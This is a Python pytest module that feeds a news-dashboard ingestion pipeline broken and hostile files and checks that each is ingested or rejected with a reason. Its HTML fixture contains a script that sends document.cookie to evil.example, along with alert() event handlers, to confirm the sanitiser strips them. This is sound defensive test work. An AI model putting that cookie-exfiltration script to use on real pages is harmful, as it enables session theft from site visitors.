"""Bad input through the real build: every hostile or broken file is ingested correctly or rejected with a reason.

One folder holds every case of issue 6 at once (the build must go on past each of them); each test
states one case's outcome in the written tables. The last tests check that the summary and the
`rejected` table account for every file found, and that a huge file is refused before it is read.
"""

from __future__ import annotations

import json
import os
import random
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from dashboard.pipeline import ingest
from dashboard.pipeline.build import build
from dashboard.pipeline.build.write import read_meta

SIMP = (
    "美国商务部宣布对中国芯片出口实施新的管制措施，英伟达表示将遵守相关规定。\n"
    "据路透社报道，英伟达在华市场份额已经下降了百分之二十，分析人士认为影响还会扩大。\n"
)
TRAD = (
    "美國商務部宣布對中國晶片出口實施新的管制措施，輝達表示將遵守相關規定。\n"
    "據《華爾街日報》報導，台積電表示影響有限，股價仍然上漲了百分之三。\n"
)
ENGLISH = (
    "The US Commerce Department tightened export rules on advanced chips again this week.\n"
    "Nvidia said it would comply, while analysts expect Chinese buyers to turn to Huawei.\n"
)
DEPTH = 1100
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256)) * 4

HOSTILE_HTML = """<!DOCTYPE html>
<html lang="zh-Hant"><head><meta charset="utf-8"><title>晶片禁令 &amp; 市場</title>
<style>body { background: url(STYLE_TEXT) }</style>
<script>document.write("SCRIPT_TEXT"); alert(1)</script>
</head><body onload="alert('ONLOAD_TEXT')">
<article>
<h1>晶片禁令&nbsp;升級</h1>
<p onclick="alert('ONCLICK_TEXT')">美國商務部週二宣布新規，<ruby>臺<rp>(</rp><rt>tái</rt><rp>)</rp></ruby>積電&amp;輝達&#x5F71;響有限&#65292;業界仍然憂心。</p>
<p>分析師指出&lt;出口管制&gt;將持續擴大，<img src="x" onerror="alert('ONERROR_TEXT')">中國廠商加速自主研發。</p>
<iframe src="https://evil.example/frame">IFRAME_TEXT</iframe>
<script>fetch("https://evil.example/?c=" + document.cookie) // SCRIPT2_TEXT</script>
</article></body></html>
"""


def _variant(text: str, n: int) -> str:
    """A distinct article per case, so identical texts in different encodings are not collapsed."""
    return text + f"这是第{n}篇测试报道，记者在北京采访了多位半导体行业人士。\n"


def _variant_trad(text: str, n: int) -> str:
    return text + f"這是第{n}篇測試報導，記者在香港採訪了多位半導體業界人士。\n"


def _cases() -> dict[str, bytes]:
    rng = random.Random(6)
    csv_body = '他说："芯片是新的石油。"\n第二段，出口管制让英伟达损失了50亿美元。'
    return {
        "empty.txt": b"",
        "noise.txt": bytes(rng.randrange(256) for _ in range(4096)),
        "image.txt": PNG,
        "broken utf8.txt": _variant(SIMP, 1).encode("utf-8")[:60]
        + b"\xff"
        + _variant(SIMP, 1).encode("utf-8")[60:],
        "undecodable.txt": b"\x80\xff" * 200,
        "gbk.txt": _variant(SIMP, 2).encode("gbk"),
        "gb18030.txt": (_variant(SIMP, 3) + "欧元符号€和扩展字𠀀也在其中。\n").encode("gb18030"),
        "big5.txt": _variant_trad(TRAD, 4).encode("big5"),
        "utf16.txt": _variant_trad(TRAD, 5).encode("utf-16"),  # with a BOM
        "hostile.html": HOSTILE_HTML.encode("utf-8"),
        "no body.html": b"<html><head><title>Only a title</title><script>x=1</script></head>"
        b"<body><nav>menu</nav><footer>(c) 2024</footer></body></html>",
        "export.jsonl": "\n".join(
            [
                json.dumps({"title": "第一篇", "content": _variant(SIMP, 6)}, ensure_ascii=False),
                json.dumps({"title": "第二篇", "content": _variant(SIMP, 7)}, ensure_ascii=False),
                '{"title": "坏行", "content": "没有结束',
                json.dumps({"title": "第四篇", "content": _variant(SIMP, 8)}, ensure_ascii=False),
            ]
        ).encode("utf-8")
        + b"\n",
        "surrogates.jsonl": (
            '{"title": "坏\\ud800标题", "content": "'
            + _variant(SIMP, 14).replace("\n", "\\n")
            + '\\udc00"}\n'
        ).encode("utf-8"),
        "deep.jsonl": b"[" * 100_000
        + b"]" * 100_000
        + b"\n"
        + json.dumps({"content": _variant(SIMP, 15)}, ensure_ascii=False).encode("utf-8")
        + b"\n",
        "deep.json": b'{"articles": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "nested.html": (
            "<html><body>"
            + "<div>" * 20_000
            + f"<p>{_variant(SIMP, 16)}</p>"
            + "</div>" * 20_000
            + "</body></html>"
        ).encode("utf-8"),
        "links.csv": b"title,url\nA,https://a.example\nB,https://b.example\n",
        "quoted.csv": ('title,text\n"多行, 引号","' + csv_body.replace('"', '""') + '"\n').encode("utf-8"),
        "港聞 2024/晶片 戰 報道.txt": _variant_trad(TRAD, 9).encode("utf-8"),
        "copy one.txt": _variant(SIMP, 10).encode("utf-8"),
        "副本 copy two.txt": _variant(SIMP, 10).encode("utf-8"),
        "english.txt": ENGLISH.encode("utf-8"),
        "numbers.txt": b"2024 2025 2026\n12345 67.8 90%\n1,000,000\n",
    }


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Iterator[tuple[Path, set[str]]]:
    """Every case in one input folder; returns it and the set of entries a walk must find."""
    root = tmp_path_factory.mktemp("bad") / "in"
    found = set()
    for rel, data in _cases().items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
        found.add(rel)
    with zipfile.ZipFile(root / "archive.txt", "w") as zf:
        zf.writestr("inner.txt", SIMP)
    found.add("archive.txt")
    (root / "long line.txt").write_text("芯片" * (ingest.MAX_CHARS // 2 + 1), encoding="utf-8")  # one line
    found.add("long line.txt")
    os.mkfifo(root / "pipe.txt")  # reading it would block the build forever
    found.add("pipe.txt")
    # A name that is not UTF-8 (GBK bytes, as a Windows zip leaves them) cannot be stored as it is.
    (root / os.fsdecode("报道".encode("gbk") + b"\xff.txt")).write_text(_variant(SIMP, 12), encoding="utf-8")
    found.add(r"\xb1\xa8\xb5\xc0\xff.txt")
    chain = [root / "d"]
    for _ in range(DEPTH - 1):  # deeper than Python's recursion limit
        chain.append(chain[-1] / "d")
    for folder in chain:
        folder.mkdir()
    (chain[-1] / "deep.txt").write_text(_variant_trad(TRAD, 13), encoding="utf-8")
    found.add("d/" * DEPTH + "deep.txt")
    loop_dir = root / "loopy"
    loop_dir.mkdir()
    (loop_dir / "inside.txt").write_text(_variant(SIMP, 11), encoding="utf-8")
    (loop_dir / "again").symlink_to(loop_dir, target_is_directory=True)  # loopy/again/again/...
    found |= {"loopy/inside.txt", "loopy/again"}
    yield root, found
    # shutil.rmtree (pytest's clean-up of old temp folders) recurses per level and fails this deep.
    (chain[-1] / "deep.txt").unlink()
    for folder in reversed(chain):
        folder.rmdir()


@pytest.fixture(scope="module")
def built(corpus, tmp_path_factory) -> dict:
    root, _ = corpus
    out = tmp_path_factory.mktemp("bad-out") / "processed"
    summary = build(root, out)
    tables = {
        name: pd.read_parquet(out / f"{name}.parquet") for name in ("articles", "paragraphs", "rejected")
    }
    return {"summary": summary, "meta": read_meta(out), **tables}


def _reason(built, source: str) -> str:
    rows = built["rejected"][built["rejected"]["source"] == source]
    assert len(rows) == 1, (source, built["rejected"].to_dict("records"))
    return rows.iloc[0]["reason"]


def _article(built, source: str) -> pd.Series:
    arts = built["articles"]
    rows = arts[arts["sources"].map(lambda s: source in list(s))]
    assert len(rows) == 1, (source, list(arts["source"]))
    return rows.iloc[0]


def _text(built, source: str) -> str:
    paras = built["paragraphs"]
    return "\n".join(paras[paras["article_id"] == _article(built, source)["article_id"]]["text"])


# --------------------------------------------------------------------------- rejected, with a reason


@pytest.mark.parametrize(
    "source, reason",
    [
        ("empty.txt", "empty file"),
        ("image.txt", "binary file (PNG image), not text"),
        ("archive.txt", "binary file (ZIP archive), not text"),
        ("undecodable.txt", "not valid UTF-8, GB18030 or Big5 text"),
        ("no body.html", "no article text found in HTML"),
    ],
)
def test_rejected_with_exact_reason(built, source, reason):
    assert _reason(built, source) == reason


def test_random_bytes_renamed_txt_rejected_as_binary(built):
    assert _reason(built, "noise.txt").startswith("binary file (")


def test_csv_without_text_column_rejected_naming_the_expected_columns(built):
    assert _reason(built, "links.csv").startswith("no text column; expected one of text, content, body")


def test_numbers_only_file_rejected_as_having_no_words(built):
    # A journalist wants to know the file held no article, not to find a wordless "article".
    assert "no words" in _reason(built, "numbers.txt")


def test_symlink_loop_listed_and_the_folder_read_once(built):
    assert "loop" in _reason(built, "loopy/again")
    assert _article(built, "loopy/inside.txt")["format"] == "txt"
    assert not built["articles"]["sources"].map(lambda s: any(x.startswith("loopy/again/") for x in s)).any()


def test_a_named_pipe_is_rejected_not_read(built):
    assert _reason(built, "pipe.txt") == "not a regular file (device, pipe or socket)"


def test_a_single_line_longer_than_any_article_rejected_with_the_limit(built):
    reason = _reason(built, "long line.txt")
    assert reason.startswith("text too long for one article (") and f"limit {ingest.MAX_CHARS:,}" in reason


def test_json_nested_too_deeply_rejected_good_lines_kept(built):
    assert _reason(built, "deep.json") == "invalid JSON (nested too deeply to be an article export)"
    assert (
        _reason(built, "deep.jsonl#1") == "line 1: invalid JSON (nested too deeply to be an article export)"
    )
    assert "第15篇测试报道" in _text(built, "deep.jsonl#2")


def test_html_nested_absurdly_deep_rejected_with_the_limit(built):
    assert _reason(built, "nested.html") == (
        "HTML nested 20003 elements deep (limit 256): not a page a reader could read"
    )


def test_jsonl_lone_surrogate_escapes_become_replacement_characters(built):
    art = _article(built, "surrogates.jsonl#1")
    assert art["title"] == "坏\ufffd标题"
    assert "第14篇测试报道" in _text(built, "surrogates.jsonl#1")


def test_jsonl_bad_line_rejected_with_its_line_number_good_lines_ingested(built):
    assert _reason(built, "export.jsonl#3").startswith("line 3: invalid JSON (")
    for n, title in ((1, "第一篇"), (2, "第二篇"), (4, "第四篇")):
        art = _article(built, f"export.jsonl#{n}")
        assert art["title"] == title and art["format"] == "jsonl"


# --------------------------------------------------------------------------- ingested correctly


@pytest.mark.parametrize(
    "source, encoding, text",
    [
        ("gbk.txt", "gb18030", _variant(SIMP, 2)),
        ("gb18030.txt", "gb18030", _variant(SIMP, 3) + "欧元符号€和扩展字𠀀也在其中。\n"),
        ("big5.txt", "big5", _variant_trad(TRAD, 4)),
        ("utf16.txt", "utf-16-le", _variant_trad(TRAD, 5)),
        ("english.txt", "utf-8", ENGLISH),
    ],
)
def test_encodings_decoded_and_recorded(built, source, encoding, text):
    art = _article(built, source)
    assert art["encoding"] == encoding
    assert _text(built, source) == text.strip()


def test_a_broken_byte_in_utf8_is_kept_as_damage_not_a_rejection(built):
    art = _article(built, "broken utf8.txt")
    assert art["encoding"] == "utf-8"
    assert "\ufffd" in _text(built, "broken utf8.txt") and art["damaged_spans"] >= 1
    assert "英伟达表示将遵守相关规定" in _text(built, "broken utf8.txt")


def test_hostile_html_reduced_to_its_text(built):
    art = _article(built, "hostile.html")
    text = _text(built, "hostile.html")
    assert art["format"] == "html" and art["title"] == "晶片禁令 & 市場"
    assert "台積電&輝達影響有限，業界仍然憂心" in text.replace(
        "臺", "台"
    )  # entities decoded, ruby reading dropped
    assert "分析師指出<出口管制>將持續擴大，中國廠商加速自主研發。" in text
    for leak in (
        "SCRIPT",
        "STYLE",
        "ONLOAD",
        "ONCLICK",
        "ONERROR",
        "IFRAME",
        "alert",
        "document.",
        "evil",
        "tái",
        "(",
        "&amp;",
        "&nbsp;",
        "\xa0",
    ):
        assert leak not in text, leak


def test_names_with_spaces_and_cjk_kept_as_given(built):
    art = _article(built, "港聞 2024/晶片 戰 報道.txt")
    assert art["source"] == "港聞 2024/晶片 戰 報道.txt" and art["language"] == "zh-Hant"


def test_a_name_that_is_not_utf8_is_kept_as_escapes_and_read(built):
    art = _article(built, r"\xb1\xa8\xb5\xc0\xff.txt")
    assert "第12篇测试报道" in _text(built, r"\xb1\xa8\xb5\xc0\xff.txt") and art["encoding"] == "utf-8"


def test_a_folder_nested_deeper_than_the_recursion_limit_is_read(built):
    assert _article(built, "d/" * DEPTH + "deep.txt")["language"] == "zh-Hant"


def test_same_article_under_two_names_collapsed_listing_both(built):
    art = _article(built, "copy one.txt")
    assert sorted(art["sources"]) == ["copy one.txt", "副本 copy two.txt"]
    assert built["summary"].duplicates_collapsed == 1


def test_english_only_text_ingested_as_english(built):
    art = _article(built, "english.txt")
    assert art["language"] == "en" and art["n_paragraphs"] == 2


def test_csv_embedded_newlines_and_quotes(built):
    art = _article(built, "quoted.csv#1")
    assert art["title"] == "多行, 引号"
    assert (
        _text(built, "quoted.csv#1") == '他说："芯片是新的石油。"\n第二段，出口管制让英伟达损失了50亿美元。'
    )


# --------------------------------------------------------------------------- accounting


def test_every_file_found_is_ingested_or_rejected(built, corpus):
    _, found = corpus
    ingested = [s for sources in built["articles"]["sources"] for s in sources]
    rejected = list(built["rejected"]["source"])
    assert not set(ingested) & set(rejected)  # no row both ingested and rejected
    assert len(ingested) == len(set(ingested))  # and none listed twice
    files = {s.split("#", 1)[0] for s in ingested + rejected}
    assert files == found
    assert built["meta"]["files_found"] == built["summary"].files_found == len(found)
    # rows: every document read became an article source or a rejection after reading
    assert built["meta"]["documents"] == len(ingested) + sum(
        r.startswith(("no article text left", "processing failed")) for r in built["rejected"]["reason"]
    )
    assert built["meta"]["rejected"] == len(rejected)


# --------------------------------------------------------------------------- size limit


def test_a_50mb_single_line_file_is_rejected_by_size_before_it_is_read(tmp_path):
    root = tmp_path / "in"
    root.mkdir()
    size = 50 * 2**20
    with open(root / "huge.txt", "wb") as fh:
        chunk = ("芯片" * 100_000).encode("utf-8")  # one line, no newline anywhere
        while fh.tell() < size:
            fh.write(chunk[: size - fh.tell()])
    (root / "ok.txt").write_text(SIMP, encoding="utf-8")

    tracemalloc.start()
    try:
        docs, rejected = ingest.read_inputs(root)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [d.source for d in docs] == ["ok.txt"]
    assert peak < 8 * 2**20  # the 50 MB were never loaded

    summary = build(root, tmp_path / "out")
    rejected = pd.read_parquet(tmp_path / "out" / "rejected.parquet")
    assert list(rejected["source"]) == ["huge.txt"]
    assert rejected.iloc[0]["reason"] == f"file too large (50.0 MiB; limit {ingest.MAX_BYTES // 2**20} MiB)"
    assert summary.articles == 1 and summary.files_found == 2
